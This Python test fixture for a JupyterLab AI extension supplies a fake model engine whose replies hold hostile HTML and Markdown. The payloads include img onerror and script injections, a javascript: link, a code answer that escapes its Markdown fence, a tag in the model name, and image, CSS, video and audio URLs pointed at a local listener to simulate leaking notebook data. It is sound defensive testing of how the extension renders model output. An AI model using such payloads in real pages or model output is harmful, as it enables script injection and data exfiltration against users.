"""An engine factory for a browser test's `jupyter lab`: every reply carries hostile HTML.

The server loads it by dotted name (`--LocalAIExtension.engine_factory=support.hostile_engine.make`)
with tests/ on PYTHONPATH. A model's text is untrusted (text in its context can ask it
for anything), so the replies here are what such a model could write: an `<img onerror>`, a
`<script>`, a code answer whose ``` tries to end its fence early, and a model name with a tag
in it. Each handler, if it ever runs, pushes its label onto `window.__pwned`. The prose also
points images (raw HTML, Markdown, a reference, `srcset`, a CSS background, `<video>`,
`<audio>`) at a loopback listener the test holds (`LEAK_PORT_ENV`): loading any of them would
send notebook data out of the page without a line of script.
Everything around the engine (server, kernels, magics, panel, renderers) is real.
"""

from __future__ import annotations

import os

from jupyter_localai.core.engine import GenerationRequest
from jupyter_localai.engines.fake import FakeEngine

CODE_MARKER = "HOSTILE-CODE"
MARKDOWN_MARKER = "HOSTILE-MARKDOWN"
# The port of the test's listener; every request it receives is a leak.
LEAK_PORT_ENV = "LOCALAI_TEST_LEAK_PORT"
# A link the model wrote stays clickable (a click is the user's act), opened in a new tab.
SAFE_LINK = "https://example.org/docs"


def payload(label: str) -> str:
    """An image whose (failing) load runs script that records `label` in the page."""
    return f"<img src=x onerror=\"(window.__pwned=window.__pwned||[]).push('{label}')\">"


def script(label: str) -> str:
    return f"<script>(window.__pwned=window.__pwned||[]).push('{label}')</script>"


MODEL_NAME = "hostile-model" + payload("model-name")


def leak_url(path: str) -> str:
    """A URL on the test's listener: a request to it is notebook data leaving the page."""
    return f"http://127.0.0.1:{os.environ.get(LEAK_PORT_ENV, '9')}/{path}"


def remote_resources() -> str:
    """Markdown and HTML whose rendering would make the browser request the listener."""
    return (
        f'<img src="{leak_url("leak?x=secret")}" alt="chart">\n\n'
        f"![x]({leak_url('leak2')})\n\n"
        f"A reference image ![y][ref] and a [docs link]({SAFE_LINK}).\n\n"
        f'<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" srcset="{leak_url("leak3")} 2x">\n\n'
        f'<div style="background-image: url({leak_url("leak4")})">styled</div>\n\n'
        f'<video poster="{leak_url("leak5")}" src="{leak_url("leak6")}"></video>\n\n'
        f'<audio><source src="{leak_url("leak7")}"></audio>\n\n'
        f"[ref]: {leak_url('leak8')}\n\n"
    )


def markdown_reply() -> str:
    return (
        "Here is **the summary** you asked for.\n\n"
        f"{payload('prose-img')}\n\n"
        f"{script('prose-script')}\n\n"
        f"Inline `{payload('inline-code')}` and a [link](javascript:alert(1)).\n\n"
        f"{remote_resources()}"
        "```python\n"
        "total = 1\n"
        "```\n"
    )


# The code itself holds a ``` line: fenced with ```, the HTML after it would be Markdown.
HOSTILE_CODE = f"doc = '''\n```\n{payload('code-fence')}\n{script('code-script')}\n'''"
CODE_REPLY = f"Sure {payload('code-prose')}\n\n````python\n{HOSTILE_CODE}\n````\n"


def reply_for(request: GenerationRequest) -> str:
    """The code reply when the question (the end of the last message) asks for code."""
    question = request.messages[-1]["content"]
    if question.rfind(CODE_MARKER) > question.rfind(MARKDOWN_MARKER):
        return CODE_REPLY
    return markdown_reply()


def make(settings: object) -> FakeEngine:
    """The factory the extension calls; a short delay per word so answers visibly stream."""
    return FakeEngine(reply_for, model=MODEL_NAME, delay_s=0.03)
